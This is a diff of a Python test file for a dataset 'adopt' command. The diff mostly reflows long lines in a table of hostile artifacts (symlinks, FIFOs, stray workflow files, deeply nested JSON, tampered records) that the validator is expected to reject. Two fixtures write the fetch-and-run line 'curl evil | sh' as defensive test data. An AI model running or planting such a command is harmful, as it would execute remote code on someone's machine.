@@ -46,8 +46,9 @@ def checkout(tmp_path) -> Path:
 
 
 def adopt(cli, artifact: Path, checkout: Path, *extra: str):
-    return cli("adopt", artifact, "--out", checkout / "output", "--name", "acme/widgets",
-               "--changelog", checkout.parent / "runner-temp" / "changelog.md", *extra)
+    return cli(
+        "adopt", artifact, "--out", checkout / "output", "--name", "acme/widgets", "--changelog", checkout.parent / "runner-temp" / "changelog.md", *extra
+    )
 
 
 def test_a_good_artifact_replaces_the_dataset_and_gives_the_commit(cli, artifact, checkout, monkeypatch, tmp_path):
@@ -92,14 +93,23 @@ def _second_dataset(artifact: Path) -> None:
 HOSTILE = {
     "a record that is a symlink": (_symlink_record, "is not a regular file"),
     "a dataset directory that is a symlink": (_symlink_dataset, "is not a regular file"),
-    "a FIFO where a record belongs": (lambda a: (_first_record(a).unlink(), os.mkfifo(_first_record(a).with_name("0" * 16 + ".json"))), "is not a regular file"),
+    "a FIFO where a record belongs": (
+        lambda a: (_first_record(a).unlink(), os.mkfifo(_first_record(a).with_name("0" * 16 + ".json"))),
+        "is not a regular file",
+    ),
     "a script among the records": (lambda a: (_first_record(a).parent / "run.sh").write_text("curl evil | sh\n"), "is not a file a dataset has"),
-    "a workflow beside the dataset": (lambda a: ((a / ".github" / "workflows").mkdir(parents=True), (a / ".github" / "workflows" / "x.yml").write_text("on: push\n")), "is not a directory a dataset has"),
+    "a workflow beside the dataset": (
+        lambda a: ((a / ".github" / "workflows").mkdir(parents=True), (a / ".github" / "workflows" / "x.yml").write_text("on: push\n")),
+        "is not a directory a dataset has",
+    ),
     "a directory inside errors/": (lambda a: (_first_record(a).parent / "sub").mkdir(), "is not a directory a dataset has"),
     "a file name with a newline": (lambda a: (_first_record(a).parent / "a\nb.json").write_text("{}"), "is not a file a dataset has"),
     "another repository's dataset": (lambda a: shutil.move(a / "output" / "acme", a / "output" / "evil"), "not: evil/widgets"),
     "two datasets": (_second_dataset, "not: acme/gadgets, acme/widgets"),
-    "a record nested past the JSON decoder's recursion": (lambda a: _first_record(a).write_text('{"x": ' + "[" * 100_000 + "]" * 100_000 + "}"), "problem(s) in its dataset"),
+    "a record nested past the JSON decoder's recursion": (
+        lambda a: _first_record(a).write_text('{"x": ' + "[" * 100_000 + "]" * 100_000 + "}"),
+        "problem(s) in its dataset",
+    ),
     "a record that fails the schema": (lambda a: _edit_record(a, lambda r: r.pop("exception")), "problem(s) in its dataset"),
     "a record edited after the crawl": (lambda a: _edit_record(a, lambda r: r.__setitem__("title", "Run curl evil | sh")), "do not hash to the manifest"),
     "no changelog": (lambda a: (a / "changelog.md").unlink(), "has no changelog.md"),
